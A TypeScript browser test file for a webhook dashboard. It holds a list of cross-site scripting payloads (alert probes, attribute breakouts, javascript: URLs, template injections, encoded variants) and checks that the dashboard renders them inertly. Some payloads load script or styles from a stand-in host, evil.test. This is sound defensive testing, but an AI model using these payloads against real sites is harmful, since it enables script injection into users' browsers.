import { expect, it } from 'vitest';
import { COMPANY, event } from './world.ts';
import { complaints, signedIn, type Stage } from './stage.ts';

/** Ways to make a browser run something, by what each hopes that the page forgets. */
const PAYLOADS: ReadonlyArray<string> = [
  // Markup where text should be
  '<script>alert(1)</script>',
  '<ScRiPt>alert(2)</sCrIpT>',
  '<script src=//evil.test/x></script>',
  '<script>alert`3`</script >',
  '<img src=x onerror=alert(4)>',
  '<img/src=x/onerror=alert(5)>',
  '<img src=x onerror=alert(6)//',
  '<svg onload=alert(7)>',
  '<svg/onload=alert(8)>',
  '<svg><script>alert(9)</script></svg>',
  '<svg><a xlink:href="javascript:alert(10)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(11) attributeName=x>',
  '<svg><set attributeName=href to=javascript:alert(12)>',
  '<body onload=alert(13)>',
  '<iframe src=javascript:alert(14)>',
  '<iframe srcdoc="<script>alert(15)</script>">',
  '<object data=javascript:alert(16)>',
  '<embed src=javascript:alert(17)>',
  '<math><mtext></math><img src onerror=alert(18)>',
  '<details open ontoggle=alert(19)>',
  '<video><source onerror=alert(20)></video>',
  '<audio src onerror=alert(21)>',
  '<input autofocus onfocus=alert(22)>',
  '<select autofocus onfocus=alert(23)>',
  '<textarea autofocus onfocus=alert(24)>',
  '<marquee onstart=alert(25)>',
  '<link rel=stylesheet href=//evil.test/x>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(26)">',
  '<base href=//evil.test/>',
  '<form action=javascript:alert(27)><button>x</button></form>',
  '<style>@import "//evil.test/x";*{display:none}</style>',
  '<template><script>alert(28)</script></template>',
  '<noscript><p title="</noscript><img src onerror=alert(29)>">',
  '<!--><img src onerror=alert(30)>-->',
  '<![CDATA[<img src onerror=alert(31)>]]>',
  '<?xml version="1.0"?><script>alert(32)</script>',
  // Out of an element or an attribute
  '"><script>alert(33)</script>',
  "'><script>alert(34)</script>",
  '" onmouseover="alert(35)" x="',
  "' onfocus='alert(36)' autofocus='",
  '" autofocus onfocus=alert(37) "',
  '" style="background:url(//evil.test/x)',
  '`onerror=alert(38) `',
  '</textarea><script>alert(39)</script>',
  '</title><script>alert(40)</script>',
  '</pre><img src onerror=alert(41)>',
  '</option></select><img src onerror=alert(42)>',
  '</text></svg><img src onerror=alert(43)>',
  '</time></td></tr></table><img src onerror=alert(44)>',
  '</script><script>alert(45)</script>',
  // Addresses and templates
  'javascript:alert(46)',
  'data:text/html,<script>alert(47)</script>',
  'vbscript:alert(48)',
  '{{constructor.constructor("alert(49)")()}}',
  '${alert(50)}',
  '<%= alert(51) %>',
  // Said otherwise
  '&lt;script&gt;alert(52)&lt;/script&gt;',
  '&#60;img src onerror=alert(53)&#62;',
  '\u003cscript\u003ealert(54)\u003c/script\u003e\u2028\u2029',
  '＜script＞alert(55)＜/script＞',
];

const TOGETHER = 4;

/** A name has 255 characters at most, so four stand in one field. */
const groups = Array.from({ length: PAYLOADS.length / TOGETHER }, (_, index) =>
  PAYLOADS.slice(index * TOGETHER, (index + 1) * TOGETHER).join(' '),
);

export const hostileSuite = (stage: () => Stage): void => {
  it('runs nothing of 60 attacks in every field that a partner, a platform or a receiver can fill', async () => {
    expect(PAYLOADS).toHaveLength(60);
    const { world } = stage();
    const subject = `"><img src=x onerror=alert('who')>`;
    const token = await world.issue({ subject });
    const page = await signedIn(stage(), token);
    const seen: string[] = [];
    for (const [number, attack] of groups.entries()) {
      const address = `${world.receiver.url}/hostile/${number}?q=${attack.replaceAll(/[\s\\#]/g, '')}`;
      const text = attack.slice(0, 255);
      world.receiver.answers.set(new URL(address).pathname + new URL(address).search, {
        status: 500,
        body: attack,
      });
      const { guid } = (await world.api(token, 'POST', '/webhook', {
        name: text,
        url: address,
        resource: 'order',
        trigger: 'update',
        identifier: text,
        retries: 0,
      })) as { readonly guid: string };
      await world.api(token, 'PATCH', `/webhook/${guid}`, { name: `${text.slice(0, 250)} !` });
      const [change = ''] = await world.report([
        {
          ...event('order.update', text, {
            note: attack,
            [attack]: attack,
            relations: [{ resource: 'event', identifier: text }],
          }),
          id: text,
          source: encodeURI(`/x?${text}`).slice(0, 250),
        },
      ]);
      const { items } = await world.api(token, 'GET', `/invocations?change=${change}`);
      const [invocation] = items as ReadonlyArray<{ readonly guid: string }>;
      if (invocation === undefined) throw new Error('the webhook was not told');
      for (const path of [
        `/dashboard/webhooks/${guid}?identifier=${encodeURIComponent(attack)}`,
        `/dashboard/webhooks/${guid}/edit`,
        `/dashboard/webhooks/${guid}/history`,
        `/dashboard/changes/${change}`,
        `/dashboard/invocations/${invocation.guid}`,
      ]) {
        await page.goto(`${world.url}${path}`, { waitUntil: 'load' });
        if (path.endsWith('edit')) expect(await page.locator('#identifier').inputValue()).toBe(text);
        if (path.includes('invocations')) seen.push(await page.locator('pre').first().innerText());
      }
    }
    // As text, and as it was sent.
    expect(seen.map((text) => text.replaceAll(/\s/g, ' '))).toEqual(
      groups.map((text) => text.replaceAll(/\s/g, ' ')),
    );
    for (const path of ['/', '/dashboard/changes', '/dashboard/sign-in?return_to=javascript:alert(1)']) {
      await page.goto(`${world.url}${path}`);
    }
    // Into a form, with its live preview, and back refused.
    await page.goto(`${world.url}/dashboard/webhooks/new-moshtix`);
    for (const attack of groups.slice(0, 3)) {
      await page.locator('#url').fill(attack);
      await page.locator('#headers').fill(`X: ${attack}`);
      await page.locator('#body').fill(attack);
      await page.getByRole('button', { name: 'Create' }).click();
      expect(await page.locator('#body').inputValue()).toBe(attack);
    }
    await page.goto(`${world.url}/?company=${COMPANY}&made=${encodeURIComponent(groups[0] ?? '')}`);
    expect(complaints).toEqual([]);
    await page.context().close();
  });
};
